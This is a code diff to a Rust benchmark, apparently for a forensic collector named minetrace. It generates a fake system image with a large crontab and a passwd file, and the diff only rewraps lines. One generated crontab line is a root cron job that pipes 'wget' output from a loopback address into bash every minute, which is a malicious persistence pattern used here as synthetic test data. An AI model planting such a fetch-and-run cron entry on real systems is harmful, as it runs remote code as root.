@@ -27,7 +27,11 @@ fn crontab(lines: usize) -> Vec<u8> {
                 i % 250,
                 i % 200
             ),
-            1 => format!("{} {} * * * root /usr/local/bin/job{i} --flag\n", i % 60, i % 24),
+            1 => format!(
+                "{} {} * * * root /usr/local/bin/job{i} --flag\n",
+                i % 60,
+                i % 24
+            ),
             _ => "* * * * * root wget -q -O- http://127.66.1.1/same.sh | bash\n".to_owned(),
         };
         out.extend_from_slice(line.as_bytes());
@@ -87,7 +91,11 @@ fn main() {
     let work = std::env::temp_dir().join(format!("minetrace-bench-cron-{}", std::process::id()));
     let image = work.join("image");
     std::fs::create_dir_all(image.join("etc/cron.d")).expect("image dirs");
-    std::fs::write(image.join("etc/passwd"), b"root:x:0:0:root:/root:/bin/bash\n").expect("passwd");
+    std::fs::write(
+        image.join("etc/passwd"),
+        b"root:x:0:0:root:/root:/bin/bash\n",
+    )
+    .expect("passwd");
     std::fs::write(image.join("etc/cron.d/huge"), crontab(lines)).expect("crontab");
     let bundle = work.join("bundle.tar.zst");
     collect(&image, &bundle);
